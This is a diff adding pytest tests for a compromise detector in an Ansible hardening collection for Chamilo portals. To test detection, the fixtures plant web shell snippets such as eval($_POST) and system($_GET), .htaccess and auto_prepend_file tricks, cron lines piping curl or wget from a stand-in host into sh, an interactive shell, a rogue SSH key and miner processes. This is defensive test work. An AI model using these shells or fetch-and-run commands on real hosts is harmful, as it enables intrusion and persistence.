@@ -1,0 +1,464 @@
+# Copyright (c) 2026, the chamilo.hardening maintainers
+# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""A host with and without traces of a break-in; the host is that of test_monitoring.py."""
+
+from __future__ import annotations
+
+import os
+import time
+from functools import partial
+from unittest import mock
+
+import pytest
+
+from ansible_collections.chamilo.hardening.plugins.module_utils._audit import monitoring
+from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring import compromise as monitoring_compromise
+from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring import persistence, traces
+from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring.compromise import Trace, trace
+from ansible_collections.chamilo.hardening.plugins.module_utils._portal.processes import Job, Process
+from tests.unit.plugins.module_utils._audit.test_monitoring import WEB, Host
+
+
+@pytest.fixture
+def host(tmp_path, monkeypatch):
+    return Host(tmp_path, monkeypatch)
+
+
+def test_a_clean_host_shows_no_sign(host):
+    host.file("var/cache/prod/Container.php", "<?php eval($_POST['x']);")  # compiled by Symfony: not looked at
+    host.file("var/upload/homework.phps", "<?php system($_GET['x']);")
+    host.file("public/main/.htaccess", "SetHandler none\nphp_flag engine off\nAddType font/woff .woff")
+    host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", f"* * * * * php {host.root}/bin/console app:x"))
+    script = host.file("public/main/cron/notification.php", "<?php echo 1;", days=100)
+    for number, line in enumerate(
+        [
+            f"*/5 * * * * php -f {script}",
+            f"0  3 * * mon-fri\t/usr/bin/php8.4 {script} daily >/dev/null 2>&1",
+            f"@hourly php {script} >> /var/log/chamilo/cron.log 2>&1",
+        ]
+    ):
+        host.jobs.append(Job(f"/var/spool/cron/crontabs/www-data:{number + 2}", line))
+    host.log.write_text(
+        '10.0.0.5 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 200 5 "-" "-"\n'
+        '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 404 5 "-" "-"\n'
+        '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /main/a.php HTTP/1.1" 200 5 "/x.phtml" "-"\n'
+    )
+    finding = monitoring.compromise(host.look())
+    assert finding.status == "pass", finding.evidence
+    assert monitoring.signs(host.look()) == []
+
+
+def plant(path, text="<?php echo 1;", days=0.0):
+    return lambda host: host.file(path, text, days)
+
+
+def of_the_web_user(path, text="<?php echo 1;"):
+    return lambda host: os.chown(host.file(path, text, 100), WEB, WEB)
+
+
+def marked(path, mode):
+    return lambda host: host.file(path, "<?php echo 1;", 100).chmod(mode)
+
+
+def test_compiled_code_that_changed_later_is_named(host, monkeypatch):
+    for number in range(30):
+        host.file(f"var/cache/prod/ContainerX/get{number}.php", "<?php")
+    host.file("var/cache/prod/App_Container.php", "<?php")
+    host.file("var/cache/prod/twig/ab/late.php", "<?php")
+    assert monitoring.signs(host.look()) == []
+    monkeypatch.setattr(monitoring_compromise, "_AN_HOUR", 0.05)
+    time.sleep(0.2)
+    with (host.root / "var/cache/prod/ContainerX/get7.php").open("a") as file:
+        file.write("system('id');")
+    os.utime(file.name, (0, 0))
+    signs = monitoring.signs(host.look())
+    assert any("after it was compiled: var/cache/prod/ContainerX/get7.php" in sign for sign in signs)
+
+
+def request(line, client="192.0.2.66"):
+    def add(host):
+        with host.log.open("a") as file:
+            file.write(f'{client} - - [25/Nov/2026:13:00:00 +0000] {line} 200 5 "-" "-"\n')
+
+    return add
+
+
+def admin(**values):
+    return lambda host: host.admins.append({"username": "eve", "status": "1", "active": "1", "late": "0", **values})
+
+
+@pytest.mark.parametrize(
+    ("plant", "words"),
+    [
+        (plant("var/upload/x.php"), "var/upload/x.php"),
+        (plant("var/themes/x.PhAr"), "var/themes/x.PhAr"),
+        (plant("var/upload/.htaccess", "AddHandler application/x-httpd-php .jpg"), "var/upload/.htaccess"),
+        (plant("var/upload/.htaccess", "AddHand\\\nler application/x-httpd-\\\nphp .jpg"), "var/upload/.htaccess"),
+        (plant("public/img/logo.php", days=100), "PHP among assets: public/img/logo.php"),
+        (plant("public/main/old.php", "<?php @eval(base64_decode('x'));", days=200), "web shell: public/main/old.php"),
+        (plant("public/main/c.php", "<?php system($_GET['c']);", days=100), "public/main/c.php"),
+        (plant("public/main/d.php", "<?php $_POST['f']($_POST['x']);", days=100), "public/main/d.php"),
+        (plant("public/main/e.php", "<?php $k = $_POST['x'];\n$y = base64_decode($k);"), "public/main/e.php"),
+        (plant("public/news.php"), "public/news.php"),
+        (plant("public/main/.user.ini", "auto_prepend_file = /tmp/x"), "public/main/.user.ini"),
+        (plant("public/.user.ini", "auto_prepend_file = /tmp/x"), "public/.user.ini"),
+        (plant("public/.htaccess", "php_value auto_append_file /tmp/x"), "public/.htaccess"),
+        (of_the_web_user("bin/console"), "which nothing vouches for: bin/console"),
+        (of_the_web_user("config/packages/x.yaml"), "which nothing vouches for: config/packages/x.yaml"),
+        (of_the_web_user("templates/x.twig"), "which nothing vouches for: templates/x.twig"),
+        (of_the_web_user("public/img/x.gif", "GIF89a<?php echo 1;"), "nothing vouches for: public/img/x.gif"),
+        (of_the_web_user(".git/config", "[core]\nfsmonitor = id\n"), ".git: core.fsmonitor"),
+        (marked("bin/console", 0o355), "which nothing vouches for: bin/console"),
+        (marked("config/packages/x.yaml", 0o240), "which nothing vouches for: config/packages/x.yaml"),
+        (marked("public/x.inc", 0o600), "cannot run until somebody looked at them: public/x.inc"),
+        (marked("src/X.php.quarantined", 0o200), "cannot run until somebody looked at them: src/X.php"),
+        (admin(status="5"), "pupils with an administrator's rights: eve"),
+        (admin(late="1"), "administrators made in the last 30 days: eve"),
+        (request('"GET /.env HTTP/1.1"'), "the environment file answered a stranger once"),
+        (request('"GET /dump.sql HTTP/1.1"'), "a database dump"),
+        (request('"GET /main/inc/lib/javascript/bigupload/files/rce.php?c=id HTTP/1.1"'), "bigUpload"),
+        (request('"POST /img/logo.php HTTP/1.1"'), "a PHP file among assets"),
+        (request('"GET /x/y.pht HTTP/1.1"'), "a rare kind"),
+        (request('"POST /main/install/index.php HTTP/1.1"'), "the installer"),
+        (
+            lambda host: host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", "* * * * * curl -s x.test | sh")),
+            "a cron job of the web user",
+        ),
+        *(
+            (
+                lambda host, line=line: host.jobs.append(
+                    Job(
+                        "/var/spool/cron/crontabs/www-data:1",
+                        line.format(host.file("public/main/cron/mail.php", "<?php echo 1;", days=100)),
+                    )
+                ),
+                "a cron job of the web user",
+            )
+            for line in (
+                "* * * * * php {} ; sh -i",
+                "* * * * * php -d auto_prepend_file=/x {}",
+                "* * * * * php -r 'x();' {}",
+                "* * * * * php {} $(id)",
+                "* * * * * php {} > /srv/campus/public/x.php",
+                "* * * * * php {}.gone.php",
+            )
+        ),
+        (
+            lambda host: (
+                os.chown(script := host.file("public/main/cron/own.php", "<?php echo 1;", days=100), WEB, WEB)
+                or host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", f"* * * * * php {script}"))
+            ),
+            "a cron job of the web user",
+        ),
+        (
+            lambda host: host.jobs.append(Job("/etc/cron.d/x:3", "* * * * * www-data wget -q -O- http://x.test | sh")),
+            "runs as the web user",
+        ),
+        (
+            lambda host: (
+                (host.root.parent / "home/.ssh").mkdir(parents=True)
+                or (host.root.parent / "home/.ssh/authorized_keys").write_text("ssh-ed25519 AAAA eve\n")
+            ),
+            "authorized_keys",
+        ),
+    ],
+)
+def test_signs(host, plant, words):
+    env = host.file(".env", "APP_ENV=prod\n", days=400)
+    os.utime(env, (time.mktime((2026, 1, 1, 0, 0, 0, 0, 0, -1)),) * 2)
+    plant(host)
+    finding = monitoring.compromise(host.look())
+    assert finding.status == "fail"
+    assert words in finding.evidence
+    assert sum(words in sign for sign in monitoring.signs(host.look())) == 1
+
+
+@pytest.mark.parametrize(
+    ("written", "told"),
+    [
+        ("13:00:00 +0000", True),  # 90 minutes after .env
+        ("13:00:00 +0200", False),  # 30 minutes before it
+        ("13:00:00 +0100", False),  # 30 minutes after it
+        ("05:00:00 -0800", True),
+        ("23:30:00", True),  # a format without the zone: the host's own, +0900 here
+        ("21:30:00", False),
+        ("13:00:60 +0000", True),  # no date there is
+    ],
+)
+def test_when_the_installer_answered_goes_by_the_zone_in_the_line(host, monkeypatch, written, told):
+    monkeypatch.setenv("TZ", "Asia/Tokyo")
+    time.tzset()
+    try:
+        os.utime(host.file(".env", "APP_ENV=prod\n"), (1795606200,) * 2)  # 2026-11-25 11:30 UTC
+        host.log.write_text(f'192.0.2.66 - - [25/Nov/2026:{written}] "POST /main/install/index.php HTTP/1.1" 200 5\n')
+        assert bool(trace(host.look()).signs) is told
+    finally:
+        monkeypatch.undo()
+        time.tzset()
+
+
+def test_a_process_of_the_web_user_that_is_no_server(host, monkeypatch):
+    host.processes += [Process(50, 1, "kworkerd", WEB), Process(51, 49, "php-fpm8.4", WEB), Process(52, 1, "sh", WEB)]
+    host.processes += [Process(49, 1, "php-fpm8.4", 0)]
+    programs = {50: "/dev/shm/.x/kworkerd", 52: "/usr/bin/dash", **dict.fromkeys((49, 51), "/usr/sbin/php-fpm8.4")}
+    links = {f"/proc/{number}/exe": program for number, program in programs.items()}
+    readlink = os.readlink  # os.path.realpath of Python 3.11 goes by it too
+    monkeypatch.setattr(persistence.os, "readlink", lambda path, **at: links.get(path) or readlink(path, **at))
+    found = monitoring.signs(host.look())
+    assert len(found) == 1
+    assert "process 50" in found[0]
+    assert "process 52" in found[0]
+    assert "process 51" not in found[0]
+
+
+@pytest.fixture
+def released(host, monkeypatch):
+    """The same portal as deploy tools lay it out: current leads to a release, and var/ out of it."""
+    place = host.root.parent / "campus"
+    (place / "releases").mkdir(parents=True)
+    (place / "shared").mkdir()
+    host.root.rename(place / "releases/7")
+    (place / "releases/7/var").rename(place / "shared/var")
+    (place / "releases/7/var").symlink_to("../../shared/var")
+    (place / "current").symlink_to("releases/7")
+    host.root = place / "current"
+    # The tests are at home in /tmp.
+    monkeypatch.setattr(persistence, "LOOSE", tuple(set(persistence.LOOSE) - {"/tmp/"}))
+    return host
+
+
+@pytest.mark.parametrize(
+    ("program", "strange"),
+    [
+        ("{campus}/releases/7/public/xmrig", True),
+        ("{campus}/shared/var/upload/xmrig", True),
+        ("{campus}/shared/var/upload/xmrig (deleted)", True),
+        ("{campus}/current/var/upload/xmrig", True),
+        ("/memfd:x (deleted)", True),
+        ("{campus}/shared/variety/tool", False),
+        ("/usr/sbin/php-fpm8.4 (deleted)", False),
+    ],
+)
+def test_a_program_of_the_portals_own_is_known_by_where_it_really_is(released, monkeypatch, program, strange):
+    program = program.format(campus=released.root.parent)
+    real = os.readlink
+    monkeypatch.setattr(
+        persistence.os, "readlink", lambda path, **at: program if path == "/proc/50/exe" else real(path, **at)
+    )
+    released.processes.append(Process(50, 7, "php-fpm8.4", WEB))
+    found = trace(released.look()).signs
+    assert (f"a process of the web user that is no server: php-fpm8.4 (process 50, {program})" in found) == strange
+    assert len(found) == strange
+
+
+@pytest.mark.parametrize(
+    ("program", "strange"),
+    [
+        ("{campus}/current/var/upload/x", True),
+        ("{campus}/releases/7/public/x", True),
+        ("{campus}/shared/var/upload/x", True),
+        ("{campus}/tool", True),  # a link to what is there
+        ("{campus}/shared/variety/x", False),
+        ("php", False),  # found by its name, wherever the audit runs
+    ],
+)
+def test_a_unit_that_starts_what_is_in_var(released, monkeypatch, program, strange):
+    monkeypatch.chdir(released.root / "var")
+    (released.root.parent / "tool").symlink_to("shared/var/upload/x")
+    unit = released.root.parent / "x.service"
+    unit.write_text(f"[Service]\nExecStart=-{program.format(campus=released.root.parent)} -d\n")
+    real = persistence.glob.glob
+    patterns = {"/etc/systemd/system/*.service": [str(unit)], "/etc/systemd/system/*.timer": []}
+    monkeypatch.setattr(persistence.glob, "glob", lambda pattern: patterns.get(pattern, ()) or real(pattern))
+    found = trace(released.look()).signs
+    assert any("a unit of systemd" in sign and str(unit) in sign for sign in found) == strange
+    assert len(found) == strange
+
+
+@pytest.mark.parametrize("written", ["", "${APACHE_LOG_DIR}/access.log combined"])
+def test_a_log_that_is_not_named_is_in_a_usual_place(host, monkeypatch, written):
+    monkeypatch.setattr(monitoring_compromise, "USUAL_LOGS", (str(host.log),))
+    request('"GET /dump.sql HTTP/1.1"')(host)
+    host.access_log, host.access_log_file = written, ""
+    assert len(monitoring.signs(host.look())) == 1
+
+
+@pytest.mark.parametrize("written", ["${APACHE_LOG_DIR}/campus-access.log combined", '"/srv/the log" combined'])
+def test_a_log_is_read_where_the_server_writes_it(host, monkeypatch, written):
+    monkeypatch.setattr(monitoring_compromise, "USUAL_LOGS", ())
+    request('"GET /dump.sql HTTP/1.1"')(host)
+    host.access_log = written
+    assert len(monitoring.signs(host.look())) == 1
+
+
+def test_a_name_that_could_harm_a_terminal_is_escaped(host):
+    host.file("var/upload/\x1b[2Jx.php", "<?php")
+    assert "\x1b" not in monitoring.compromise(host.look()).evidence
+
+
+def test_a_newer_file_of_the_program_is_no_script_beside_index_php(host):
+    host.file("src/New.php", "<?php class New_ {}")
+    assert not any("beside index.php" in sign for sign in monitoring.signs(host.look()))
+    host.file("public/help.php", "<?php phpversion();")
+    assert any("beside index.php" in sign and "public/help.php" in sign for sign in monitoring.signs(host.look()))
+
+
+@pytest.mark.parametrize("name", [".ssh/authorized_keys2", ".config/systemd/user/x.service"])
+def test_a_link_that_leads_nowhere_hides_nothing(host, name):
+    """The web user can make one where its home is its own."""
+    link = host.root.parent / "home" / name
+    link.parent.mkdir(parents=True)
+    link.symlink_to("/nonexistent/key")
+    host.file("var/upload/x.php", "<?php")
+    php, way_in = sorted(trace(host.look()).signs)
+    assert name in way_in and "var/upload/x.php" in php
+
+
+def test_an_empty_file_of_keys_lets_nobody_in(host):
+    keys = host.root.parent / "home/.ssh/authorized_keys"
+    keys.parent.mkdir(parents=True)
+    keys.touch()
+    assert trace(host.look()).signs == []
+
+
+def test_pipes_and_nonsense_stop_nobody(host):
+    os.mkfifo(host.root / "public/main/pipe.php")
+    os.mkfifo(host.root / "var/upload/.htaccess")
+    (host.root / "public/main/loop.php").symlink_to("loop.php")
+    host.log.write_bytes(b"\xff\x00" * 100 + b'\n"GET /.env HTTP/1.1" 200 \n' + b'POST /main/install/ "')
+    found = trace(host.look())
+    (sign,) = found.signs
+    assert sign.startswith("the environment file answered a stranger once")
+    assert sign.endswith("for an unknown address")
+    assert found.gaps == []
+
+
+def test_the_log_that_was_rotated_is_read_as_well(host):
+    request('"GET /dump.sql HTTP/1.1"')(host)
+    host.log.rename(f"{host.log}.1")
+    host.log.write_text("")
+    assert len(trace(host.look()).signs) == 1
+
+
+def test_long_requests_push_nothing_out_of_the_log(host):
+    request('"POST /main/inc/lib/bigupload/inc/bigUpload.php HTTP/1.1"')(host)
+    with host.log.open("a") as file:
+        file.write(
+            ('192.0.2.66 - - [25/Nov/2026:13:05:00 +0000] "GET / HTTP/1.1" 200 5 "' + "x" * 32000 + '" "-"\n') * 300
+        )
+    assert any("bigUpload" in sign for sign in trace(host.look()).signs)
+
+
+@pytest.mark.parametrize(("ago", "told"), [(2, True), (30, False)])
+def test_what_of_the_day_was_not_read_is_told(host, monkeypatch, ago, told):
+    monkeypatch.setattr(monitoring_compromise, "_LOG_BYTES", 1000)
+    look = host.look()
+    date = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(look.now - 3600 * ago))
+    host.log.write_text(f'192.0.2.66 - - [{date}] "GET / HTTP/1.1" 200 5 "-" "-"\n' * 50)
+    found = trace(look)
+    assert [f"{date} on" in cut for cut in found.cut] == [True] * told
+    assert any("MB of" in one for one in found.seen)
+
+
+def test_the_time_that_is_over_is_a_gap(host, monkeypatch):
+    monkeypatch.setattr(monitoring_compromise, "_SECONDS", -1.0)
+    assert any("the time for it" in gap for gap in trace(host.look()).gaps)
+
+
+def test_many_are_counted_and_none_is_no_sign():
+    found = Trace()
+    found.add("PHP among assets", [])
+    assert found.signs == []
+    found.add("PHP among assets", [f"public/img/{number}.php" for number in range(9)])
+    assert found.signs == ["PHP among assets: public/img/0.php, public/img/1.php, public/img/2.php and 6 more"]
+
+
+def test_many_files_in_var_leave_the_program_its_time(host, monkeypatch):
+    host.file("public/main/c.php", "<?php system($_GET['c']);", days=100)
+    moment = [0.0]
+    monkeypatch.setattr(traces, "_BEAT", 1)
+    monkeypatch.setattr(traces.time, "monotonic", lambda: moment[0])
+
+    def is_dir(entry, follow_symlinks=True):  # each entry in var/ takes a second
+        moment[0] += entry.path.startswith(f"{host.root}/var/")
+        return entry.is_dir(follow_symlinks=follow_symlinks)
+
+    real = os.scandir
+    monkeypatch.setattr(traces.os, "scandir", lambda path: Slow(real(path), is_dir))
+    for number in range(20):
+        host.file(f"var/upload/{number}", "")
+    found = trace(host.look())
+    assert any("public/main/c.php" in sign for sign in found.signs)
+    (cut,) = found.cut
+    assert cut.startswith("var/: Not everything was looked at: the time for it (10 s) was over") and cut in found.gaps
+
+
+class Slow:
+    """A listing whose entries answer by another function."""
+
+    def __init__(self, listing, is_dir):
+        self.listing, self.is_dir = listing, is_dir
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_error):
+        self.listing.close()
+
+    def __iter__(self):
+        for entry in self.listing:
+            answers = mock.Mock(wraps=entry, path=entry.path)
+            answers.name = entry.name
+            answers.is_dir = partial(self.is_dir, entry)
+            yield answers
+
+
+@pytest.mark.parametrize(("name", "there"), [("linked.php", True), ("later.phtml", False), (".user.ini", True)])
+def test_a_link_in_the_program_that_runs_data(host, name, there):
+    if there:
+        host.file("var/upload/k.txt", "<?php echo 1;", days=100)
+    (host.root / "public/main").mkdir(parents=True, exist_ok=True)
+    (host.root / "public/main" / name).symlink_to("../../var/upload/k.txt")
+    (sign,) = trace(host.look()).signs
+    assert sign == f"a link that runs what the web user can change: public/main/{name}"
+
+
+def test_a_shell_behind_a_link_in_the_program_is_read(host):
+    host.file("vendor/x.inc", "<?php system($_GET['c']);", days=100)
+    (host.root / "public/main").mkdir(parents=True, exist_ok=True)
+    (host.root / "public/main/linked.php").symlink_to("../../vendor/x.inc")
+    (sign,) = trace(host.look()).signs
+    assert "what looks like a web shell: public/main/linked.php" in sign
+
+
+@pytest.mark.parametrize("where", ["campus/var/cache/x", "elsewhere"])
+def test_php_behind_a_link_to_a_folder(host, tmp_path, where):
+    folder = (host.root / "var/cache/x") if "cache" in where else tmp_path / where
+    folder.mkdir(parents=True)
+    (folder / "a.php").write_text("<?php echo 1;")
+    os.chown(folder / "a.php", WEB, WEB)
+    (folder / "essay.txt").write_text("")
+    (host.root / "public/main").mkdir(parents=True, exist_ok=True)
+    (host.root / "public/main/x").symlink_to(folder)
+    (sign,) = trace(host.look()).signs
+    assert sign == "PHP of the web user's behind a link: public/main/x/a.php"
+
+
+def test_links_of_the_administrators_are_no_signs(host, tmp_path):
+    """Upload folders on another disk, program in another place, assets of a bundle."""
+    (tmp_path / "data").mkdir()
+    (tmp_path / "data/essay.txt").write_text("x")
+    (tmp_path / "shared/plugin").mkdir(parents=True)
+    (tmp_path / "shared/plugin/a.php").write_text("<?php echo 1;")
+    host.file("vendor/bundle/public/a.js", "")
+    host.file("vendor/bundle/public/a.php", "<?php echo 1;", days=100)
+    (host.root / "public/bundles").mkdir(parents=True)
+    for link, target in (
+        ("public/courses", tmp_path / "data"),
+        ("public/plugin2", tmp_path / "shared/plugin"),
+        ("public/bundles/x", "../../vendor/bundle/public"),
+    ):
+        (host.root / link).symlink_to(target)
+    assert trace(host.look()).signs == []
